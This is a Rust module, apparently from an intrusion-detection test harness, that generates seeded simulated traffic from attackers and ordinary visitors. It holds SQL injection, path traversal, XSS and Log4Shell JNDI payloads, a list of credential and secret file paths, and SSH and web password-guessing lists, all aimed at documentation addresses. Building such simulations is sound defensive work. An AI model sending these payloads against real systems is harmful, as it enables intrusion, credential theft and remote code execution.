//! Who does what, when and from where: attackers and ordinary people, the same for a seed. It plays nothing and knows no tool.

use vigie_simulate::random::Random;

use super::machine::{MEMBER, OTHER_MEMBER, PASSWORD};

/// One who attacks, or an ordinary visitor.
#[derive(Clone, Debug)]
pub(crate) struct Actor {
    pub(crate) name: &'static str,
    pub(crate) is_attacker: bool,
    /// How many things it does at once.
    pub(crate) lanes: usize,
    pub(crate) steps: Vec<Step>,
}

/// One thing that is done.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Step {
    /// After the beginning.
    pub(crate) at_ms: u64,
    pub(crate) source: String,
    pub(crate) act: Act,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum Act {
    Get {
        target: String,
        agent: String,
    },
    /// A page for members, with a name and a password in the header.
    Basic {
        target: String,
        user: String,
        password: String,
    },
    /// A form with a name and a password, whose answer is the form again, as WordPress does.
    Form {
        target: String,
        user: String,
        password: String,
    },
    Ssh {
        user: String,
        password: String,
    },
}

const BROWSERS: [&str; 3] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
];
const CRAWLER: &str = "Mozilla/5.0 (compatible; SearchBot/2.1; +http://search.example.org/bot.html)";

const NAMES: [&str; 10] = ["root", "admin", "test", "oracle", "postgres", "ubuntu", "git", "deploy", "user", MEMBER];
const PASSWORDS: [&str; 8] = ["123456", "password", "admin", "root", "azerty", "qwerty123", "P@ssw0rd", "toor"];

/// What scanners ask for.
const SENSITIVE: [&str; 40] = [
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/wp-config.php.bak",
    "/.aws/credentials",
    "/phpinfo.php",
    "/backup.sql",
    "/config.php~",
    "/.htpasswd",
    "/server-status",
    "/phpmyadmin/index.php",
    "/id_rsa",
    "/.ssh/id_rsa",
    "/.DS_Store",
    "/docker-compose.yml",
    "/web.config",
    "/.svn/entries",
    "/composer.json",
    "/dump.sql",
    "/.vscode/sftp.json",
    "/admin.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/actuator/env",
    "/api/.env",
    "/backup.zip",
    "/.bash_history",
    "/cgi-bin/test.cgi",
    "/console",
    "/manager/html",
    "/solr/admin/info/system",
    "/shell.php",
    "/wp-content/debug.log",
    "/.env.production",
    "/config.json",
    "/db.sqlite",
    "/old/index.php",
    "/owa/auth/logon.aspx",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/_profiler/phpinfo",
];

/// In the idioms of the manuals of the tools that send them; `{}` is a number.
const INJECTIONS: [&str; 10] = [
    "{}%27%20OR%20%271%27=%271",
    "{}%20UNION%20SELECT%20NULL,NULL,NULL--%20-",
    "{}%27%20AND%20SLEEP(5)--%20-",
    "{}%27%20ORDER%20BY%2010--%20-",
    "{}%20UNION%20ALL%20SELECT%20user,password%20FROM%20users--",
    "{}%27;WAITFOR%20DELAY%20%270:0:5%27--",
    "{}%20AND%20(SELECT%201%20FROM(SELECT%20COUNT(*),CONCAT(VERSION(),FLOOR(RAND(0)*2))x%20FROM%20INFORMATION_SCHEMA.TABLES%20GROUP%20BY%20x)a)",
    "{}%27%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))--%20-",
    "-{}%20OR%201=1",
    "{}%27%20UNION%20SELECT%20table_name%20FROM%20information_schema.tables--",
];
/// `^` is a climb of some steps, `{}` a file.
const TRAVERSALS: [&str; 6] =
    ["/view?file=^{}", "/view?page=/^{}", "/images/^{}", "/^{}", "/view?file=/{}", "/view?file={}%00.html"];
const CLIMBS: [&str; 5] = ["../", "..%2f", "....//", "%2e%2e/", "..%252f"];
const FILES: [&str; 6] =
    ["etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "windows/win.ini", "var/log/auth.log"];
const SCRIPTS: [&str; 6] = [
    "%3Cscript%3Ealert({})%3C/script%3E",
    "%22%3E%3Cimg%20src=x%20onerror=alert({})%3E",
    "%3Csvg/onload=alert({})%3E",
    "javascript:alert(document.cookie,{})",
    "%27%22%3E%3Ciframe%20src=javascript:alert({})%3E",
    "%3Cbody%20onload=alert({})%3E",
];
const LOOKUPS: [&str; 3] = [
    "${jndi:ldap://203.0.113.250:1389/a}",
    "${jndi:${lower:l}${lower:d}ap://203.0.113.250/x}",
    "${${env:X:-j}ndi:rmi://203.0.113.250/y}",
];

/// What people look for in French: apostrophes everywhere, and words that mean something else in SQL.
const SEARCHES: [&str; 8] = [
    "l%27%C3%A9t%C3%A9+d%27avant",
    "aujourd%27hui",
    "l%27union+des+%C3%A9tudiants",
    "c%27est+o%C3%B9+l%27entr%C3%A9e+%3F",
    "qu%27est-ce+qu%27un+select+d%27honneur",
    "prix+de+l%27or+et+d%27argent",
    "l%27h%C3%B4tel+%22le+table+d%27or%22",
    "d%27o%C3%B9+vient+l%27ordre+du+jour+--+annexe",
];

/// All actors of a seed, for so many seconds.
pub(crate) fn actors(seed: u64, seconds: u64) -> Vec<Actor> {
    let writer = Writer { seed, whole_ms: seconds * 1_000 };
    let mut all = writer.passwords();
    all.extend(writer.web());
    all.extend(writer.ordinary());
    all
}

struct Writer {
    seed: u64,
    whole_ms: u64,
}

impl Writer {
    /// So many steps one after another, each `every_ms` after the one before, or spread over the whole time.
    fn actor(
        &self,
        name: &'static str,
        count: u64,
        every_ms: Option<u64>,
        mut make: impl FnMut(u64, &mut Random) -> (String, Act),
    ) -> Actor {
        let mut random = Random::new(self.seed, name);
        let start = random.below(self.whole_ms / 20 + 1);
        let every = every_ms.unwrap_or((self.whole_ms - start) / (count + 1));
        let steps = (0..count)
            .map(|step| {
                let at_ms = start + step * every + random.below(every / 4 + 1);
                let (source, act) = make(step, &mut random);
                Step { at_ms, source, act }
            })
            .take_while(|step| step.at_ms < self.whole_ms)
            .collect();
        Actor { name, is_attacker: true, lanes: 1, steps }
    }

    /// Those who guess passwords of sshd.
    fn passwords(&self) -> Vec<Actor> {
        let guess = |random: &mut Random| Act::Ssh { user: pick(random, &NAMES), password: pick(random, &PASSWORDS) };
        let mut random = Random::new(self.seed, "addresses");
        let spread: Vec<String> = (0..24).map(|at| format!("203.0.113.{}", 10 * at + 1 + random.below(9))).collect();
        let many: Vec<String> = (0..30)
            .map(|_| {
                format!(
                    "2001:db8:9:9:{:x}:{:x}::{:x}",
                    random.below(0xffff),
                    random.below(0xffff),
                    random.below(0xffff)
                )
            })
            .collect();
        let mut all = vec![
            self.actor("ssh, fast", 80, Some(600), |_, random| ("198.51.100.10".into(), guess(random))),
            self.actor("ssh, slow", self.whole_ms / 10_000, Some(10_000), |_, random| {
                ("198.51.100.23".into(), guess(random))
            }),
            self.actor("ssh, 24 of a /24", 72, None, |step, random| {
                (spread[(step % 24) as usize].clone(), guess(random))
            }),
            self.actor("ssh, 30 of a /64", 60, None, |step, random| {
                (many[(step % 30) as usize].clone(), guess(random))
            }),
        ];
        for actor in &mut all {
            actor.lanes = match actor.name {
                "ssh, fast" => 4,
                "ssh, slow" => 1,
                _ => 2,
            };
        }
        all
    }

    /// Those who attack the web server.
    fn web(&self) -> Vec<Actor> {
        let browser = |random: &mut Random| pick(random, &BROWSERS);
        let guess = |random: &mut Random| (pick(random, &NAMES), pick(random, &PASSWORDS));
        let numbered =
            |random: &mut Random, list: &[&str]| pick(random, list).replace("{}", &random.below(900).to_string());
        let traversal = |random: &mut Random| {
            let climb = pick(random, &CLIMBS).repeat(2 + random.below(7) as usize);
            pick(random, &TRAVERSALS).replace('^', &climb).replace("{}", &pick(random, &FILES))
        };
        vec![
            self.actor("web, sensitive files", 80, Some(400), |step, random| {
                ("198.51.100.37".into(), get(SENSITIVE[(step % 40) as usize], &browser(random)))
            }),
            self.actor("web, SQL injection", 80, Some(300), |_, random| {
                (
                    "198.51.100.41".into(),
                    get(&format!("/article?id={}", numbered(random, &INJECTIONS)), &browser(random)),
                )
            }),
            self.actor("web, traversal", 80, Some(300), |_, random| {
                ("198.51.100.53".into(), get(&traversal(random), &browser(random)))
            }),
            self.actor("web, log4shell", 6, Some(3_000), |step, random| {
                let lookup = LOOKUPS[(step % 3) as usize];
                let query = lookup.replace('$', "%24").replace('{', "%7B").replace('}', "%7D");
                (
                    "198.51.100.61".into(),
                    get(
                        &format!("/?x={query}"),
                        if step % 2 == 0 { lookup } else { BROWSERS[random.below(3) as usize] },
                    ),
                )
            }),
            self.actor("web, XSS", 80, Some(300), |_, random| {
                ("198.51.100.67".into(), get(&format!("/recherche?q={}", numbered(random, &SCRIPTS)), &browser(random)))
            }),
            self.actor("web, passwords (401)", 60, Some(1_000), |_, random| {
                let (user, password) = guess(random);
                ("198.51.100.71".into(), Act::Basic { target: "/membres/".into(), user, password })
            }),
            self.actor("web, passwords (form)", 60, Some(1_000), |_, random| {
                let (user, password) = guess(random);
                ("198.51.100.79".into(), Act::Form { target: "/wp-login.php".into(), user, password })
            }),
        ]
    }

    /// Those whom nobody may hold back. In the /24 of most attackers, so that a whole network is no answer.
    fn ordinary(&self) -> Vec<Actor> {
        let page = |random: &mut Random| match random.below(10) {
            0..4 => format!("/actualite-{}.html", random.below(60)),
            4..7 => format!("/images/{}.png", random.below(8)),
            7 => "/favicon.ico".to_owned(),
            _ => "/index.html".to_owned(),
        };
        let member =
            |password: &str| Act::Basic { target: "/membres/".into(), user: MEMBER.into(), password: password.into() };
        let mut all = vec![
            self.actor("pages", 60, None, |_, random| ("198.51.100.201".into(), get(&page(random), BROWSERS[0]))),
            self.actor("pages, IPv6", 60, None, |_, random| {
                ("2001:db8:8:8::5".into(), get(&page(random), BROWSERS[1]))
            }),
            self.actor("French searches", 40, None, |_, random| {
                ("198.51.100.207".into(), get(&format!("/recherche?q={}", pick(random, &SEARCHES)), BROWSERS[2]))
            }),
            self.actor("crawler", 67, None, |step, _| {
                let target = match step {
                    0 => "/robots.txt".to_owned(),
                    // Pages that are gone: a crawler has an old list.
                    step if step % 11 == 0 => format!("/ancienne-{step}.html"),
                    step => format!("/actualite-{}.html", step % 60),
                };
                ("198.51.100.213".into(), get(&target, CRAWLER))
            }),
            self.actor("NAT, 12 visitors", 240, None, |step, random| {
                let act = match step {
                    100 => member("l'heure du te"),
                    101 => member(PASSWORD),
                    _ => get(&page(random), &format!("{} n{}", BROWSERS[(step % 3) as usize], step % 12)),
                };
                ("198.51.100.219".into(), act)
            }),
            self.actor("member, web", 14, None, |step, random| {
                let act = match step {
                    0 | 1 => member("l'heure du café"),
                    2 => member(PASSWORD),
                    _ => get(&page(random), BROWSERS[0]),
                };
                ("198.51.100.227".into(), act)
            }),
            self.ssh_member("member, ssh", OTHER_MEMBER, "198.51.100.231"),
            // Attackers know this name.
            self.ssh_member("member under attack, ssh", MEMBER, "198.51.100.235"),
        ];
        for actor in &mut all {
            actor.is_attacker = false;
        }
        all
    }

    /// Mistypes twice, then signs in.
    fn ssh_member(&self, name: &'static str, user: &str, source: &str) -> Actor {
        self.actor(name, 6, None, |step, _| {
            let password = if step < 2 { "l'heure du café" } else { PASSWORD };
            (source.to_owned(), Act::Ssh { user: user.to_owned(), password: password.to_owned() })
        })
    }
}

fn pick(random: &mut Random, list: &[&str]) -> String {
    list[random.below(list.len() as u64) as usize].to_owned()
}

fn get(target: &str, agent: &str) -> Act {
    Act::Get { target: target.to_owned(), agent: agent.to_owned() }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_seed_is_one_script_and_another_seed_another() {
        let steps = |seed| actors(seed, 120).into_iter().flat_map(|actor| actor.steps).collect::<Vec<_>>();
        assert_eq!(steps(7), steps(7));
        assert_ne!(steps(7), steps(8));
        assert!(steps(7).iter().all(|step| step.at_ms < 120_000));
    }

    #[test]
    fn nobody_shares_an_address_and_both_kinds_are_there() {
        let mut owners = std::collections::BTreeMap::new();
        for actor in actors(7, 120) {
            assert!(actor.steps.len() > 5 && actor.lanes > 0, "{}", actor.name);
            for step in actor.steps {
                assert_eq!(*owners.entry(step.source).or_insert(actor.name), actor.name);
            }
        }
        let is_attacker: Vec<bool> = actors(7, 120).iter().map(|actor| actor.is_attacker).collect();
        assert!(is_attacker.contains(&true) && is_attacker.contains(&false));
    }
}
